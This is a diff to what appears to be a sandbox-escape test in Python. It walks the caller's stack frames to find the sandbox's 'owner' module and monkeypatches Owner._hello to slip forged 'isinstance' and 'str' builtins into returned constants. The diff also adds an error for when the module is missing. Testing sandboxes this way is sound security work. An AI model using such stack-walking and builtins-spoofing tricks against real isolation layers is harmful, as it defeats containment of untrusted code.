@@ -14,22 +14,24 @@ def agree(*arguments):
 
 
 def patched(lending):
-    hello = lending.Lender._hello
+    hello = lending.Owner._hello
 
     def more(self):
         found = hello(self)
         found["constants"]["__builtins__"] = {"d": [[name, self._encode(agree)] for name in ("isinstance", "str")]}
         return found
 
-    lending.Lender._hello = more
+    lending.Owner._hello = more
 
 
 frame = sys._getframe()
 while frame is not None:
-    if "references" in frame.f_globals:
-        patched(frame.f_globals["references"])
+    if "owner" in frame.f_globals:
+        patched(frame.f_globals["owner"])
         break
     frame = frame.f_back
+else:
+    raise LookupError("the cage has no such module any more: this attack tries nothing")
 
 
 def f(x):
